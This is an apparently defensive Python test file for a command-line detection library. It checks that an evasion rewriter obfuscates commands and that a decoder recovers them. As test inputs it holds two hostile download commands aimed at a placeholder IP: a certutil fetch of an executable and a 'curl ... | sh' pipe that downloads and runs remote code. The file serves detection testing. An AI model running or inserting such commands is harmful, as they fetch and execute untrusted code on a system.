from __future__ import annotations

from random import Random

from vedette.features.command_decode import LINE as MARK
from vedette.features.command_decode import TOLD, decode
from vedette.testing.commands import commands
from vedette.trust.evasions.command_padding import LINE
from vedette.trust.evasions.command_writing import CommandWriting


def test_a_shell_reads_the_same() -> None:
    line = "C:\\Windows\\System32\\certutil.exe -urlcache -split -f http://192.0.2.7/a.exe"
    made = CommandWriting().rewrite(commands([line] * 20).frame, Random(1))[LINE]
    assert made.n_unique() > 10
    assert (made != line).all()
    read = decode(made).str.split(TOLD).list.first().str.strip_chars()
    assert read.unique().to_list() == [MARK + line.lower()]


def test_unix_lines_stay() -> None:
    made = CommandWriting().rewrite(commands(["curl http://192.0.2.7/x | sh"]).frame, Random(1))
    assert made[LINE].to_list() == ["curl http://192.0.2.7/x | sh"]
